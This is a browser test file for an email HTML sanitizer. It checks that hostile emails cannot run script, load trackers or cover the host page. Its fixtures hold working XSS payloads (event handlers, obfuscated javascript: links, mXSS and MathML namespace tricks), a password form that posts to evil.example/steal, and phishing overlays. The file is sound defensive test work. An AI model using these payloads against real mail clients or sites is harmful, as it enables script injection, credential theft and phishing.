// EM-4/PL-6: hostile email HTML, rendered in real Chromium: nothing runs, nothing loads without
// consent, nothing reaches outside the email's own box.

import { expect } from '@open-wc/testing';
import { html, render } from 'lit';
import { mountSanitized, safeHtml, sanitizeCss, sanitizeEmail } from './sanitize.js';

declare global {
  interface Window {
    ccPwned?: string[] | undefined;
  }
}

/** A URL on the test server (an existing file, so no 404 noise) no page asks for with this query: any request to it is ours to see. */
const trackerUrl = (name: string) => `${location.origin}/package.json?tracker=${name}-${Math.random().toString(36).slice(2)}`;
// Every fetch from here on (the page's own resource buffer may be full of the test's modules).
const fetched: string[] = [];
new PerformanceObserver((list) => fetched.push(...list.getEntries().map((e) => e.name))).observe({ type: 'resource' });
const requested = (url: string) => fetched.includes(url);
/** Lets a browser fire what it would: image errors, timers, refreshes. */
const idle = () => new Promise((resolve) => setTimeout(resolve, 150));

const PWN = (what: string) => `(window.ccPwned=window.ccPwned||[]).push('${what}')`;

let host: HTMLElement;

function show(html: string, options: Parameters<typeof sanitizeEmail>[1] = {}): ShadowRoot {
  return mountSanitized(host, sanitizeEmail(html, options));
}

beforeEach(() => {
  window.ccPwned = undefined;
  host = document.createElement('div');
  host.style.cssText = 'inline-size: 300px; block-size: 200px; margin: 100px 0 0 100px';
  document.body.append(host);
});

afterEach(() => {
  host.remove();
});

describe('sanitizeEmail (EM-4 inbound HTML, PL-6)', () => {
  it('EM-4: scripts, event handlers and javascript: URLs never run', async () => {
    const root = show(`
      <p>Hello</p>
      <script>${PWN('script')}</script>
      <img src="x" onerror="${PWN('onerror')}">
      <body onload="${PWN('body onload')}">
      <details open ontoggle="${PWN('ontoggle')}"><summary>s</summary></details>
      <div onmouseover="${PWN('mouseover')}" onclick="${PWN('click')}">hover me</div>
      <a id="js" href="javascript:${PWN('js link')}">click</a>
      <a id="entity" href="jav&#x09;ascript:${PWN('entity link')}">click</a>
      <a id="data" href="data:text/html,<script>${PWN('data link')}</script>">click</a>
      <a id="vb" href="vbscript:msgbox(1)">click</a>
      <noscript><p title="</noscript><img src=x onerror=${PWN('mxss')}>"></p></noscript>
    `);
    await idle();
    for (const a of root.querySelectorAll('a')) a.click();
    root.querySelector<HTMLElement>('div[class], div')?.click();
    await idle();
    expect(window.ccPwned, 'nothing ran').to.equal(undefined);
    expect(root.querySelector('script')).to.equal(null);
    const attributes = [...root.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => `${a.name}=${a.value}`));
    expect(attributes.filter((a) => /^on/i.test(a))).to.deep.equal([]);
    for (const id of ['js', 'entity', 'data', 'vb']) expect(root.getElementById(id)?.hasAttribute('href'), id).to.equal(false);
    expect(root.textContent).to.contain('Hello');
  });

  it('EM-4: SVG and MathML are stripped with whatever they carry', async () => {
    const root = show(`
      <svg onload="${PWN('svg onload')}"><script>${PWN('svg script')}</script><a xlink:href="javascript:${PWN('svg link')}"><text>x</text></a>
      <animate attributeName="href" to="javascript:alert(1)"/><foreignObject><img src=x onerror="${PWN('fo')}"></foreignObject></svg>
      <math><mtext><table><mglyph><style><img src=x onerror="${PWN('math')}"></style></mglyph></table></mtext></math>
      <img id="svgdata" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
    `);
    await idle();
    expect(window.ccPwned).to.equal(undefined);
    expect(root.querySelector('svg, math, foreignObject, script')).to.equal(null);
    expect(root.getElementById('svgdata')?.hasAttribute('src'), 'no SVG as a data image').to.equal(false);
  });

  it('EM-4: forms, frames, meta refresh, base and embedded objects are removed', async () => {
    const before = location.href;
    const root = show(`
      <meta http-equiv="refresh" content="0;url=javascript:${PWN('refresh')}">
      <base href="https://evil.example/">
      <link rel="stylesheet" href="${trackerUrl('link')}">
      <iframe srcdoc="<script>parent.${PWN('iframe')}</script>"></iframe>
      <object data="${trackerUrl('object')}"></object><embed src="${trackerUrl('embed')}">
      <form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example">Log in</button></form>
      <p>Still here</p>
    `);
    await idle();
    expect(location.href).to.equal(before);
    expect(window.ccPwned).to.equal(undefined);
    expect(root.querySelector('meta, base, link, iframe, object, embed, form, input, button')).to.equal(null);
    expect(root.textContent).to.contain('Still here');
  });

  it('EM-4: remote images and CSS url() load nothing until the agent allows them; then they do', async () => {
    const img = trackerUrl('img');
    const background = trackerUrl('background');
    const sheet = trackerUrl('sheet');
    const imported = trackerUrl('import');
    const attr = trackerUrl('attr');
    const html = `
      <style>@import url("${imported}"); .hero { background-image: url("${sheet}"); color: rgb(1, 2, 3); }</style>
      <p class="hero">Offer</p>
      <img id="pixel" src="${img}" alt="Logo" width="10" height="10">
      <div style="background: url('${background}') no-repeat; color: rgb(4, 5, 6)">bg</div>
      <table background="${attr}"><tr><td>t</td></tr></table>
      <img srcset="${trackerUrl('srcset')} 2x" alt="s">
    `;
    const blocked = sanitizeEmail(html);
    expect(blocked.blockedRemote).to.equal(3);
    let root = mountSanitized(host, blocked);
    await idle();
    for (const url of [img, background, sheet, imported, attr]) expect(requested(url), url).to.equal(false);
    expect(root.getElementById('pixel')?.hasAttribute('data-cc-blocked')).to.equal(true);
    // The email keeps its look otherwise: its own colours, in its own box.
    expect(getComputedStyle(root.querySelector('.hero')!).color).to.equal('rgb(1, 2, 3)');
    expect(getComputedStyle(root.querySelector('div[style]')!).color).to.equal('rgb(4, 5, 6)');

    // "Show images": the same email with consent.
    root = show(html, { remoteImages: true });
    await idle();
    expect(requested(img), 'the image loads once allowed').to.equal(true);
    expect(requested(sheet), 'and the style sheet background').to.equal(true);
    expect(requested(imported), '@import never').to.equal(false);
    expect(requested(attr), 'table background attribute never').to.equal(false);
  });

  it('EM-4: styles cannot restyle the page or lay anything over it', async () => {
    const root = show(`
      <style>
        :host { position: fixed !important; inset: 0; }
        * { font-family: "Comic Sans MS" }
        .overlay { position: fixed !important; inset: 0; z-index: 2147483647; background: red; }
        body, html, p { color: rgb(9, 9, 9) }
        @font-face { font-family: x; src: url("${trackerUrl('font')}") }
        @media screen { .m { position: absolute; top: 0; left: 0 } }
      </style>
      <div class="overlay">PAY NOW</div>
      <div id="inline" style="position: fixed; top: 0; left: 0; inline-size: 100vw; block-size: 100vh; z-index: 2147483647; background: blue">Login</div>
      <p class="m">p</p>
    `);
    await idle();
    const outside = document.elementFromPoint(10, 10);
    expect(outside === host || host.contains(outside), 'the page corner is not covered').to.equal(false);
    for (const el of root.querySelectorAll<HTMLElement>('.overlay, #inline, .m')) {
      expect(['static', 'relative']).to.include(getComputedStyle(el).position);
    }
    expect(getComputedStyle(host).position, 'the host keeps its own position').to.equal('relative');
    expect(getComputedStyle(document.body).fontFamily).to.not.contain('Comic');
    expect(getComputedStyle(root.querySelector('p')!).color, 'rules inside the email still apply inside it').to.equal('rgb(9, 9, 9)');
    // Even what were to slip through stays in the box: it is a containing block that clips its painting.
    expect(getComputedStyle(host).overflow).to.equal('auto');
  });

  it('EM-5: embedded images stay; cid: images show their inline attachment', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
    const root = show(
      `<img id="a" src="${png}" alt="dot"><img id="b" src="cid:logo@bank" alt="logo"><img id="c" src="cid:unknown" alt="x">`,
      {
        resolveCid: (cid) => (cid === 'logo@bank' ? 'https://files.example/att-1' : undefined),
      },
    );
    expect(root.getElementById('a')?.getAttribute('src')).to.equal(png);
    expect(root.getElementById('b')?.getAttribute('src')).to.equal('https://files.example/att-1');
    expect(root.getElementById('c')?.hasAttribute('src')).to.equal(false);
  });

  it('EM-4: links open beside the desktop and tell the target nothing', () => {
    const root = show(`<a href="https://bank.example/help">help</a> <a href="mailto:help@bank.example">mail</a> <a href="#top">top</a>`);
    const [help, mail, top] = root.querySelectorAll('a');
    expect(help!.getAttribute('target')).to.equal('_blank');
    expect(help!.getAttribute('rel')).to.equal('noopener noreferrer nofollow');
    expect(mail!.getAttribute('href')).to.equal('mailto:help@bank.example');
    expect(top!.hasAttribute('href'), 'no in-page jumps that would change the host page URL').to.equal(false);
  });

  it('sanitizeCss keeps plain style rules and media queries only', () => {
    const { css } = sanitizeCss(
      `@import "x.css"; p { color: red; position: sticky } @media (max-width: 600px) { td { display: block } } @keyframes k { from { opacity: 0 } } :host { color: red }`,
    );
    expect(css).to.contain('p { color: red; }');
    expect(css).to.contain('@media (max-width: 600px) { td { display: block; } }');
    expect(css).to.not.contain('sticky');
    expect(css).to.not.contain('@import');
    expect(css).to.not.contain('keyframes');
    expect(css).to.not.contain(':host');
  });

  it('safeHtml(): a Lit element directive that shows the email in the element’s own shadow root, again only on change', () => {
    const show = (body: string, remoteImages = false) => render(html`<div class="mail" ${safeHtml(body, { remoteImages })}></div>`, host);
    show('<p onclick="x()">Hi <b>there</b></p><script>x()</script>');
    const mail = host.querySelector<HTMLElement>('.mail')!;
    expect(mail.shadowRoot!.querySelector('.cc-content')!.innerHTML).to.equal('<p>Hi <b>there</b></p>');
    const content = mail.shadowRoot!.querySelector('.cc-content');
    show('<p onclick="x()">Hi <b>there</b></p><script>x()</script>');
    expect(mail.shadowRoot!.querySelector('.cc-content'), 'same input, nothing redone').to.equal(content);
    show('<p>Bye</p>');
    expect(mail.shadowRoot!.textContent).to.equal('Bye');
  });
});
